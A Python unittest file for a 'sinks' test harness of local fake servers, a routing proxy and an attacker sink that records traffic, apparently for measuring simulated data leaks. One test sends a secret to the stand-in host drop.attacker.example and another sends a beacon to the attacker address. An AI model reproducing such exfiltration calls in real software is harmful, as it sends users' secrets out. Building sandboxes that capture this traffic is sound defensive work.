"""The sinks record every byte, answer HTTP, are bounded, and the forwarder routes by name."""
from __future__ import annotations

import socket
import ssl
import unittest
import urllib.error
import urllib.request

from sinks import ATTACKER, Sinks


def opener(proxy: str) -> urllib.request.OpenerDirector:
    return urllib.request.build_opener(urllib.request.ProxyHandler({"http": proxy, "https": proxy}))


class SinkTests(unittest.TestCase):
    def test_records_requests_through_forwarder(self) -> None:
        with Sinks(["ocr.example"], attacker_addr=("127.13.37.1", 18137), attacker_hosts=["drop.attacker.example"],
                   forwarder=True) as s:
            proxy = "http://%s:%d" % s.forwarder_addr
            body = b'{"doc": "abc"}'
            with opener(proxy).open(urllib.request.Request("http://ocr.example/v1/ocr", data=body), timeout=5) as r:
                self.assertEqual(r.status, 200)
            opener(proxy).open("http://drop.attacker.example/c?k=secret", timeout=5).read()
            with self.assertRaises(urllib.error.HTTPError) as e:
                opener(proxy).open("http://not-in-world.example/", timeout=5)
            self.assertEqual(e.exception.code, 502)
            with socket.create_connection(("127.13.37.1", 18137), timeout=5) as c:
                c.sendall(b"BEACON 00ff\n")
        reqs = s.requests()
        self.assertEqual(len(reqs["ocr.example"]), 1)
        self.assertTrue(reqs["ocr.example"][0].startswith(b"POST /v1/ocr HTTP/1.1\r\n"))
        self.assertTrue(reqs["ocr.example"][0].endswith(body))
        self.assertEqual(len(reqs[ATTACKER]), 2)
        self.assertIn(b"GET /c?k=secret", reqs[ATTACKER][0])
        self.assertEqual(reqs[ATTACKER][1], b"BEACON 00ff\n")

    def test_bounded(self) -> None:
        with Sinks(["blog.example"], attacker_addr=None, max_bytes=1000, conn_timeout=1) as s:
            with socket.create_connection(s.addr["blog.example"], timeout=5) as c:
                try:
                    c.sendall(b"x" * 5000)
                except OSError:
                    pass
        r = s.rec["blog.example"]
        self.assertEqual(r.total, 1000)
        self.assertTrue(r.truncated)

    def test_self_stopping(self) -> None:
        s = Sinks(["blog.example"], attacker_addr=None, max_seconds=0.5).start()
        addr = s.addr["blog.example"]
        import time

        time.sleep(1.5)
        with self.assertRaises(OSError):
            socket.create_connection(addr, timeout=1).close()
        s.stop()

    def test_https_sink_through_connect(self) -> None:
        with Sinks(["api.example"], attacker_addr=None, forwarder=True, tls=True) as s:
            ctx = ssl.create_default_context(cadata=s.ca_pem.decode())
            proxy = "http://%s:%d" % s.forwarder_addr
            o = urllib.request.build_opener(urllib.request.ProxyHandler({"https": proxy}), urllib.request.HTTPSHandler(context=ctx))
            with o.open("https://api.example/v1/rates?x=1", timeout=5) as r:
                self.assertIn(b"EUR", r.read())
        raws = s.requests()["api.example"]
        self.assertEqual(len(raws), 1)
        self.assertTrue(raws[0].startswith(b"GET /v1/rates?x=1 HTTP/1.1"))  # decrypted bytes
        self.assertTrue(s.rec["api.example"].conns[0]["tls"])


if __name__ == "__main__":
    unittest.main()
